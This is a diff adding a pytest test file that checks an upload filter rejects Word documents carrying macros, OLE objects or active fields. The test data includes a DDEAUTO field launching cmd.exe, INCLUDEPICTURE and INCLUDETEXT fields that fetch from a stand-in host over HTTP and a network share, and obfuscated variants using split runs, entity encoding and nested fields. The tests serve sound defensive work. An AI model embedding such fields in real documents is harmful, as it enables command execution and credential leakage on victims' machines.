@@ -1,0 +1,75 @@
+"""What a Word document could still do when it is opened: each was taken until this was written."""
+
+import io
+
+import pytest
+
+from cases.files.content import look_at
+from cases.files.kinds import Refused
+from tests.cases.made_up_files import TYPES, docx
+
+MACROS = TYPES.replace("document.main", "document.macro&#69;nabled.main")
+SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+TIES = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+KINDS = "http://schemas.microsoft.com/office/2006/relationships"
+
+
+def taken(document: bytes) -> bool:
+    """Tell whether a document may be added."""
+    try:
+        return look_at(io.BytesIO(document)).kind.code == "docx"
+    except Refused:
+        return False
+
+
+def says(*runs: str, begin: str = '<w:fldChar w:fldCharType="begin" w:dirty="true"/>') -> bytes:
+    """Return a document with a field of these pieces, as Word cuts a text into runs."""
+    pieces = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    body = f"<w:document {SPACE}><w:p><w:r>{begin}</w:r>{pieces}</w:p></w:document>"
+    return docx(("word/header1.xml", body))
+
+
+UTF_16 = '<?xml version="1.0" encoding="utf-16"?>'
+
+
+@pytest.mark.parametrize("types", [MACROS, (UTF_16 + MACROS).encode("utf-16")])
+def test_macros_are_found_however_the_list_of_parts_is_written(types):
+    assert not taken(docx(types=types))
+    assert taken(docx(types=(UTF_16 + TYPES).encode("utf-16")))
+
+
+@pytest.mark.parametrize("kind", ["vbaProject", "oleObject", "control"])
+def test_macros_and_programs_are_found_whatever_their_part_is_called(kind):
+    tie = f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="plaatje.bin"/>'
+    ties = f"{TIES}{tie}</Relationships>"
+    assert not taken(docx(("word/_rels/document.xml.rels", ties), ("word/plaatje.bin", b"x")))
+
+
+@pytest.mark.parametrize(
+    "runs",
+    [
+        ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"],
+        [" DD", "E ", "Excel &quot;x&quot;"],
+        ["INCLUDEPICTURE &quot;https://kwaad.example/oog.png&quot; \\d"],
+        ["INCLUDE", "TEXT &quot;\\\\\\\\kwaad.example\\\\deel\\\\x.docx&quot;"],
+        ["INCLUDEPICTURE &quot;http&#58;//kwaad.example/oog.png&quot;"],
+    ],
+)
+def test_no_field_fetches_or_runs_anything(runs):
+    assert not taken(says(*runs))
+
+
+def test_nor_one_of_which_another_field_says_what_it_is():
+    """{ { QUOTE 68 68 69 } … }: Word reads the outer one as DDE."""
+    begin = '<w:fldChar w:fldCharType="begin"/>'
+    assert not taken(says("QUOTE 68 68 69", begin=begin + begin))
+
+
+def test_nor_does_one_that_says_it_all_at_once():
+    field = '<w:fldSimple w:instr="INCLUDEPICTURE http://kwaad.example/oog.png"/>'
+    assert not taken(says(begin=field))
+
+
+@pytest.mark.parametrize("run", ["PAGE", "HYPERLINK &quot;https://nji.nl&quot;", "DATE \\@ d"])
+def test_other_fields_are_taken(run):
+    assert taken(says(run))
